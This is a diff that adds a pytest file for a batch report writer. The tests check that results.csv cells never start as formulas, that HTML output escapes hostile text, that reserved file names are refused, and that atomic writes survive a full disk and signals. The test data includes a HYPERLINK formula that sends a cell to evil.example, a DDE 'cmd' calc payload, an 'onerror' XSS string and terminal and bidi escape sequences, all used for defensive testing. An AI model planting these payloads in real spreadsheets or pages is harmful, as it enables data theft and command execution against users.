@@ -1,0 +1,168 @@
+"""The one writer of a batch folder: row names cannot take its files' places, no results.csv cell is a formula, HTML
+shows text from elsewhere inert, and a failed, interrupted or killed write leaves the old report and no temporary
+file (real files, real signals, a real file-size limit)."""
+
+from __future__ import annotations
+
+import csv
+import json
+import signal
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from spark_nb._files import write_atomically
+from spark_nb.batch import ManifestError
+from spark_nb.batch._manifest import check_manifest, rows_to_run
+from spark_nb.batch._outcome import RowOutcome, RowStatus
+from spark_nb.batch._report import OWN_NAMES, outcomes_html, write_gallery, write_results_csv, write_rows_json
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\x1b[2J=1+1"]
+SPREADSHEET_STARTS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+
+
+def temporary_files(folder: Path) -> list[str]:
+    """Every leftover temporary file under folder."""
+    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.name.endswith((".part", ".tmp")))
+
+
+def hostile_outcomes() -> list[RowOutcome]:
+    """One outcome per formula, the formula in every text column a row has."""
+    return [RowOutcome(name=f, model=f, status=RowStatus.FAILED, task_id=f, cost=f, error=f, advice=f, duration=5.2)
+            for f in FORMULAS]
+
+
+def test_no_results_csv_cell_is_a_formula(tmp_path: Path) -> None:
+    """Names, models, task ids, costs, errors and advice that start like formulas are written behind a quote mark
+    (escape sequences gone); numbers stay numbers."""
+    write_results_csv(tmp_path, hostile_outcomes())
+    with (tmp_path / "results.csv").open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.lstrip(" ").startswith(SPREADSHEET_STARTS), (column, cell)
+            assert "\x1b" not in cell and "\r" not in cell
+        assert row["duration"] == "5.2" and row["status"] == "failed"
+    assert rows[1]["task_id"] == "'=cmd|' /C calc'!A0" and rows[0]["name"].startswith("'=HYPERLINK(")
+    assert temporary_files(tmp_path) == []
+
+
+def test_hostile_text_is_inert_and_escaped_in_the_gallery_and_the_table(tmp_path: Path) -> None:
+    """Markup, escape sequences and bidi overrides from a name, a task id or an error never reach the HTML raw."""
+    odd = '<img src=x onerror=alert(1)>\x1b]0;title\x07\u202eevil'
+    outcomes = [RowOutcome(name=odd, model=odd, status=RowStatus.FAILED, task_id=odd, error=odd + "\nline 2",
+                           advice=odd)]
+    page = write_gallery(tmp_path, outcomes).read_text()
+    table = outcomes_html(outcomes)
+    for html in (page, table):
+        assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
+        assert "\x1b" not in html and "\x07" not in html and "\u202e" not in html
+    assert "line 2" in page
+
+
+@pytest.mark.parametrize("name", ["index.html", "RESULTS.CSV", "rows.json", "Media", "gallery.ipynb"])
+def test_a_row_named_like_the_batchs_own_files_is_refused(name: str, tmp_path: Path, media: dict[str, Path]) -> None:
+    """A row may not take the name of the batch's own files and folders, in any case: the check says which names
+    are taken, before anything runs; the other rows are valid."""
+    assert name.lower() in OWN_NAMES
+    manifest = tmp_path / "manifest.csv"
+    manifest.write_text(f"name,model,image,audio\n{name},avatar,{media['portrait']},{media['speech']}\n"
+                        f"fine,avatar,{media['portrait']},{media['speech']}\n")
+    rows, invalid = check_manifest(manifest)
+    assert [row.name for row in rows] == ["fine"]
+    assert [row.name for row in invalid] == [name]
+    assert "taken by the batch's own files and folders" in invalid[0].problems[0]
+    assert all(own in invalid[0].problems[0] for own in OWN_NAMES)
+    with pytest.raises(ManifestError, match=f"row 2: name '{name}' is taken"):
+        rows_to_run(manifest)
+
+
+def test_a_write_that_fails_leaves_the_old_file_and_no_temporary_one(tmp_path: Path) -> None:
+    """A directory where the report goes (a row folder named index.html, before the manifest check refused it):
+    the write fails, nothing half-written, no .part left; an ordinary failure the same."""
+    (tmp_path / "index.html").mkdir()
+    with pytest.raises(IsADirectoryError):
+        write_gallery(tmp_path, [RowOutcome("index.html", "m", RowStatus.COMPLETED, task_id="t0")])
+    with pytest.raises(IsADirectoryError):
+        write_atomically(tmp_path / "index.html", "x")
+    assert temporary_files(tmp_path) == []
+
+
+WRITER = """
+import os, resource, signal, sys, time
+from pathlib import Path
+import spark_nb._files as files
+from spark_nb.batch._outcome import RowOutcome, RowStatus
+from spark_nb.batch._report import write_gallery, write_results_csv, write_rows_json
+
+out, mode = Path(sys.argv[1]), sys.argv[2]
+signal.signal(signal.SIGINT, signal.default_int_handler)
+outcomes = [RowOutcome(f"row{i}", "m", RowStatus.FAILED, task_id=f"t{i}", error="e" * 200) for i in range(3000)]
+if mode == "fsize":  # a disk that fills up mid-write: writes past 64 KB fail with EFBIG
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))
+else:  # stop between writing the temporary file and renaming it, where a signal may land
+    real_replace = os.replace
+    def held_replace(src, dst):
+        print("renaming", flush=True)
+        time.sleep(60)
+        real_replace(src, dst)
+    files.os.replace = held_replace
+for write in (write_results_csv, write_rows_json, write_gallery):
+    try:
+        write(out, outcomes)
+    except OSError as exc:
+        print(type(exc).__name__, exc.errno, flush=True)
+"""
+
+
+def _old_reports(out: Path) -> dict[str, bytes]:
+    """Small, whole reports of one row, as an earlier run left them."""
+    outcomes = [RowOutcome("earlier", "m", RowStatus.COMPLETED, task_id="t0")]
+    for write in (write_results_csv, write_rows_json, write_gallery):
+        write(out, outcomes)
+    return {name: (out / name).read_bytes() for name in ("results.csv", "rows.json", "index.html")}
+
+
+def test_a_full_disk_mid_write_leaves_the_old_reports_and_no_temporary_file(tmp_path: Path) -> None:
+    """Every report write fails past a 64 KB file-size limit (EFBIG, as a full disk fails): each old report is
+    intact and no temporary file is left."""
+    old = _old_reports(tmp_path)
+    proc = subprocess.run([sys.executable, "-c", WRITER, str(tmp_path), "fsize"], capture_output=True, text=True,
+                          timeout=120)
+    assert proc.stdout.count("OSError 27") == 3, proc.stdout + proc.stderr  # EFBIG, once per report
+    assert {name: (tmp_path / name).read_bytes() for name in old} == old
+    assert temporary_files(tmp_path) == []
+
+
+@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL], ids=["SIGINT", "SIGKILL"])
+def test_a_signal_mid_write_never_leaves_a_half_report_nor_a_lasting_temporary_file(how: signal.Signals,
+                                                                                    tmp_path: Path) -> None:
+    """A writer stopped between writing its temporary file and renaming it: Ctrl-C removes the temporary file at
+    once; after SIGKILL the next run's final write (the gallery) removes it. The old report stays whole."""
+    old = _old_reports(tmp_path)
+    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(tmp_path), "signal"], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    try:
+        assert proc.stdout.readline() == "renaming\n"  # type: ignore[union-attr]
+        assert len(temporary_files(tmp_path)) == 1  # the new results.csv, written whole, waiting for its rename
+        proc.send_signal(how)
+        _, stderr = proc.communicate(timeout=30)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait(timeout=10)
+    assert {name: (tmp_path / name).read_bytes() for name in old} == old
+    if how == signal.SIGINT:
+        assert "KeyboardInterrupt" in stderr and temporary_files(tmp_path) == []
+    else:
+        assert len(temporary_files(tmp_path)) == 1  # a killed process cleans up nothing
+        write_gallery(tmp_path, [RowOutcome("earlier", "m", RowStatus.COMPLETED, task_id="t0")])
+        assert temporary_files(tmp_path) == []
+    with (tmp_path / "results.csv").open(newline="") as f:
+        assert [row["name"] for row in csv.DictReader(f)] == ["earlier"]
+    assert json.loads((tmp_path / "rows.json").read_text())["rows"][0]["name"] == "earlier"
